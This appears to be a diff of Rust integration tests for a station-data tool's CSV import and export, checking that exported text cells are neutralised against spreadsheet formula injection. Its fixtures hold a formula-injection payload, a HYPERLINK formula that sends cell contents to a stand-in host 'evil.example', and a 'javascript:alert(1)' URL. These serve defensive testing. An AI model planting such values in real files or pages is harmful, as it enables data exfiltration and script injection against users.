@@ -238,6 +238,12 @@ async fn import_with_one_bad_row_rejects_the_file_and_changes_nothing() {
             4,
             &["county", "3601"],
         ),
+        (
+            "photo_url not http(s)",
+            bad_row("BAD-PHOTO,坏照片,,360102,115.9,28.7,,24/7,,false,,javascript:alert(1)"),
+            4,
+            &["photo_url", "javascript:alert(1)"],
+        ),
     ];
     for (what, content, row, needles) in cases {
         let file = write(dir.path(), "bad.csv", &content);
@@ -336,6 +342,118 @@ async fn exported_csv_imports_into_a_fresh_store_unchanged() {
         String::from_utf8(again.stdout).unwrap(),
         std::fs::read_to_string(&exported).unwrap()
     );
+}
+
+/// Stations whose text a spreadsheet would run as formulas, a value that really begins with
+/// a quote and a trigger, and negative coordinates that must stay numbers.
+fn formula_stations() -> Vec<yizhan::domain::NewStation> {
+    let mut hyperlink = new_station("-1-2", (-3.5, -3.25));
+    hyperlink.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我领取补贴\")".into();
+    hyperlink.address = "+86 江西省南昌市".into();
+    hyperlink.phone = Some("+86 791 8888 0000".into());
+    hyperlink.notes = Some("@SUM(1+1)\n第二行 =1".into());
+    let mut quoted = new_station("JX-QUOTE", (115.9, 28.7));
+    quoted.name = "'=1+1 真的以引号开头".into();
+    quoted.address = "''-2".into();
+    quoted.phone = Some("-3".into());
+    quoted.notes = Some("'普通备注".into());
+    let plain = new_station("JX-PLAIN", (116.0, 28.8));
+    vec![hyperlink, quoted, plain]
+}
+
+/// Text columns of the station CSV (everything but lon, lat and demo).
+const TEXT_COLUMNS: [usize; 9] = [0, 1, 2, 3, 6, 7, 8, 10, 11];
+
+/// By default no text cell of an export starts a formula, numbers stay numbers, and importing
+/// the file gives back the original text; `--csv-raw` writes text byte for byte and imports
+/// it back the same way.
+#[tokio::test]
+async fn csv_export_neutralises_formulas_and_both_modes_round_trip() {
+    let source = TestDb::new().await;
+    let source_store = source.connect().await;
+    source_store
+        .insert_stations(&formula_stations())
+        .await
+        .unwrap();
+    let want = stations_of(source_store.as_ref()).await;
+    let dir = tempfile::tempdir().unwrap();
+
+    let export = |raw: bool, name: &str| {
+        let path = dir.path().join(name);
+        let url = source.url.clone();
+        async move {
+            let mut args = vec!["export", "--format", "csv", "--out", path.to_str().unwrap()];
+            if raw {
+                args.push("--csv-raw");
+            }
+            let out = yizhan(&args, &url).await;
+            assert!(out.status.success(), "{}", stderr(&out));
+            path
+        }
+    };
+    let cells = |path: &Path| -> Vec<csv::StringRecord> {
+        csv::Reader::from_path(path)
+            .unwrap()
+            .records()
+            .map(Result::unwrap)
+            .collect()
+    };
+
+    let neutral = export(false, "neutral.csv").await;
+    let rows = cells(&neutral);
+    assert_eq!(rows.len(), 3);
+    for row in &rows {
+        for i in TEXT_COLUMNS {
+            assert!(
+                !row[i].starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "column {i} starts a formula: {row:?}"
+            );
+        }
+    }
+    let hyperlink = rows
+        .iter()
+        .find(|r| &r[0] == "'-1-2")
+        .expect("the code is neutralised");
+    assert!(hyperlink[1].starts_with("'=HYPERLINK("), "{hyperlink:?}");
+    assert_eq!(&hyperlink[2], "'+86 江西省南昌市");
+    assert_eq!(
+        (&hyperlink[4], &hyperlink[5]),
+        ("-3.5", "-3.25"),
+        "numbers untouched"
+    );
+    assert_eq!(&hyperlink[8], "'+86 791 8888 0000");
+    let quoted = rows.iter().find(|r| &r[0] == "JX-QUOTE").unwrap();
+    assert_eq!(&quoted[1], "''=1+1 真的以引号开头");
+    assert_eq!(&quoted[2], "'''-2");
+    assert_eq!(&quoted[8], "'-3");
+    assert_eq!(
+        &quoted[10], "'普通备注",
+        "a quote before plain text is left alone"
+    );
+
+    let raw = export(true, "raw.csv").await;
+    let rows = cells(&raw);
+    let hyperlink = rows.iter().find(|r| &r[0] == "-1-2").expect("raw code");
+    assert_eq!(&hyperlink[2], "+86 江西省南昌市");
+    let quoted = rows.iter().find(|r| &r[0] == "JX-QUOTE").unwrap();
+    assert_eq!(&quoted[1], "'=1+1 真的以引号开头");
+
+    for (file, import_args) in [
+        (&neutral, vec!["import"]),
+        (&raw, vec!["import", "--csv-raw"]),
+    ] {
+        let target = TestDb::new().await;
+        let target_store = target.connect().await;
+        let mut args = import_args.clone();
+        args.push(file.to_str().unwrap());
+        let out = yizhan(&args, &target.url).await;
+        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
+        assert_eq!(
+            stations_of(target_store.as_ref()).await,
+            want,
+            "{args:?} changed the text"
+        );
+    }
 }
 
 #[tokio::test]
